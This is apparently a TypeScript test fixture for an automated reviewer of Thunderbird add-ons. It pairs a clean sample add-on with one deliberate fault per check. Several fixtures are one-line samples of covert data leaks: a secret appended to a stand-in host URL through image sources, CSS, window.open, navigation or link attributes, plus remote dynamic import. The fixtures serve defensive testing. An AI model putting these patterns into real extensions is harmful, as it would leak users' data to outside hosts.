// A small add-on that every check lets pass, and for each check that looks at something the one mistake it must find:
// files that are laid over the good add-on, or null for a file that is missing.

type Files = Readonly<Record<string, string | null>>;

const manifest = {
  manifest_version: 3,
  name: "__MSG_name__",
  version: "1.0.0",
  default_locale: "en",
  browser_specific_settings: { gecko: { id: "a@b.example", strict_min_version: "153.0" } },
  icons: { "16": "icon.svg" },
  background: { scripts: ["background.js"], type: "module" },
  action: { default_popup: "popup.html?place=toolbar", default_icon: "icon.svg" },
  permissions: ["accountsRead", "storage"],
};

const withManifest = (change: object): Files => ({
  "manifest.json": JSON.stringify({ ...manifest, ...change }),
});
const background = [
  'import { areas } from "./areas.js";',
  "messenger.accounts.list(false);",
  "areas(messenger.storage.local);",
  "messenger.runtime.onMessage.addListener((message) => Promise.resolve(message));",
].join("\n");
const withCode = (code: string): Files => ({ "background.js": `${background}\n${code}` });

export const good: Readonly<Record<string, string>> = {
  "manifest.json": JSON.stringify(manifest),
  "background.js": background,
  "areas.js": "export function areas(area) { return area; }",
  "popup.html": '<link rel="stylesheet" href="popup.css"><script type="module" src="popup.js"></script>',
  "popup.css": 'main { background: url("icon.svg"); }',
  "popup.js": 'document.querySelector("main").textContent = messenger.i18n.getMessage("name");',
  "icon.svg": "<svg/>",
  LICENSE: "MPL",
  "_locales/en/messages.json": JSON.stringify({ name: { message: "Letters for Thunderbird" } }),
};

const named = (message: string): Files => ({
  "_locales/de/messages.json": JSON.stringify({ name: { message } }),
});
const longLine = `${"f(1); ".repeat(12)}${" ".repeat(500)}`;
const table = `var table = (() => { return { a: 1 }; })();\nf(table.a);\n${"// words\n".repeat(200)}`;

/** By the check's id. */
export const wrong: Readonly<Record<string, Files>> = {
  "experiment-not-allowed": withManifest({ experiment_apis: { x: {} } }),
  "manifest-missing": { "manifest.json": null },
  "manifest-invalid-json": { "manifest.json": "{" },
  "manifest-missing-key": withManifest({ version: undefined }),
  "manifest-version-mismatch": withManifest({ manifest_version: 2 }),
  "update-url": withManifest({ update_url: "https://a.example/" }),
  "trademark-violation": named("Thunderbird letters"),
  "default-locale-missing": withManifest({ default_locale: undefined }),
  "default-locale-unused": withManifest({ default_locale: "fr" }),
  "csp-unsafe-eval": withManifest({
    content_security_policy: { extension_pages: "script-src 'unsafe-eval'" },
  }),
  "csp-unsafe-inline": withManifest({
    content_security_policy: { extension_pages: "script-src 'unsafe-inline'" },
  }),
  "missing-english-localization": { "_locales/en/messages.json": null, ...named("Briefe für Thunderbird") },
  "non-experiment-strict-max-version": withManifest({
    browser_specific_settings: { gecko: { strict_max_version: "153.*" } },
  }),
  "minimize-web-accessible-resources": withManifest({ web_accessible_resources: [{ resources: ["*"] }] }),
  "minimize-host-permissions": withManifest({ host_permissions: ["https://*/*"] }),
  "addon-icon-missing": withManifest({ icons: undefined }),
  "native-messaging": withManifest({ permissions: ["nativeMessaging"] }),
  "bundled-files": { "popup.css": null },
  "unused-files": { "popup.js.map": "{}" },
  "unrecognized-file-type": withManifest({ background: { scripts: ["background.txt"] } }),
  "minified-code": withCode(longLine),
  "unparsable-file": withCode("let = ;"),
  "core-symbol-in-webext": withCode("Services.io;"),
  "sync-xhr": withCode('new XMLHttpRequest().open("GET", "a", false);'),
  "debugger-statement": withCode("debugger;"),
  "eval-call": withCode('eval("1");'),
  "function-constructor": withCode('new Function("1");'),
  "string-timer": withCode('setTimeout("f()", 1);'),
  "background-module": withManifest({ background: { scripts: ["background.js"] } }),
  "remote-eval": withCode("import(place);"),
  "obfuscated-code": withCode(table),
  "async-onmessage": withCode("messenger.runtime.onMessage.addListener(async (message) => message);"),
  "unsafe-html": withCode('element.innerHTML = "<b>a</b>";'),
  "code-sanity": withCode("function f() { return 1; f(); }"),
  "api-coverage": withCode("const { accounts } = messenger;"),
  "remote-resources": { "popup.css": "@import url(https://a.example/a.css);" },
  "cleartext-transmission": withCode("fetch(`http://${host}/mail`);"),
  "disguised-resource": withCode("image.src = `https://a.example/?${secret}`;"),
  "disguised-stylesheet": withCode("element.style.background = `url(https://a.example/${secret})`;"),
  "disguised-window": withCode("window.open(`https://a.example/${secret}`);"),
  "disguised-navigation": withCode('location.assign("https://a.example/" + secret);'),
  "disguised-transmission": withCode('link.setAttribute("href", "https://a.example/" + secret);'),
  "privacy-policy": withCode('fetch("https://a.example/");'),
  "data-exfiltration": withCode("fetch(address);"),
  "unknown-api": withCode("messenger.accounts.listen();"),
  "missing-permission": withCode("messenger.messages.get(1);"),
  "missing-manifest-key": withCode("messenger.composeAction.openPopup();"),
  "manifest-unknown-permission": withManifest({ permissions: ["smtp"] }),
  "strict-min-version-api": withManifest({
    browser_specific_settings: { gecko: { id: "a@b.example", strict_min_version: "128.0" } },
  }),
  "mistyped-manifest-value": withManifest({ icons: "icon.svg" }),
  "unused-permission": withManifest({ permissions: ["accountsRead", "storage", "downloads"] }),
  "deprecated-api": withCode("messenger.browserSettings.ftpProtocolEnabled;"),
  "unrecognized-manifest-key": withManifest({ colour: "blue" }),
};
